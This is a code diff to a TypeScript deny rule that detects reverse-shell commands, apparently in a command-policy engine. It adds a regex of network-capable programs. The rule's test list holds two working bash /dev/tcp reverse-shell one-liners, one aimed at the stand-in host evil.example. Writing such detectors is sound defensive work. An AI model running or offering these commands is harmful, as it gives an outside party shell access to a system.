@@ -1,5 +1,6 @@
 import type { Effect } from "../../core/action.ts";
 import type { Hit, Rule, Scene } from "../rule.ts";
+import { watching } from "../watching.ts";
 
 const reverseShell: Rule = {
   id: "network/reverse-shell",
@@ -7,11 +8,11 @@ const reverseShell: Rule = {
   verdict: "deny",
   says: "it gives somebody else a shell",
   instead: "nc -z example.org 443",
-  find: (scene) => [
+  find: watching({ effects: ["read", "write"], programs: (name) => connecting.test(name) }, (scene) => [
     ...scene.effects.flatMap((effect) => (givesShell(effect) ? [spanned(effect)] : [])),
     ...throughSocket(scene),
     ...throughPipe(scene.effects),
-  ],
+  ]),
   mustBlock: [
     "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
     "bash -c 'bash -i >& /dev/tcp/evil.example/443 0>&1'",
@@ -43,8 +44,12 @@ const reverseShell: Rule = {
   ],
 };
 
+// Programs that `givesShell` knows, and those that connect for `throughPipe`.
+const connecting =
+  /^(nc|ncat|netcat|nc\.\w+|socat|msfvenom|msfconsole|pwncat|pwncat-cs|villain|weevely|[gm]?awk|python[\d.]*|perl|ruby|php|lua|node|nodejs|bun|xterm|telnet|openssl)$/;
+
 function givesShell(effect: Effect): boolean {
-  if (effect.kind !== "execute") return false;
+  if (effect.kind !== "execute" || !connecting.test(effect.program ?? "")) return false;
   const { program = "", args } = effect;
   const text = `${args.join(" ")} ${effect.input ?? ""}`.slice(0, textAtMost);
   if (/^(nc|ncat|netcat|nc\.\w+)$/.test(program))
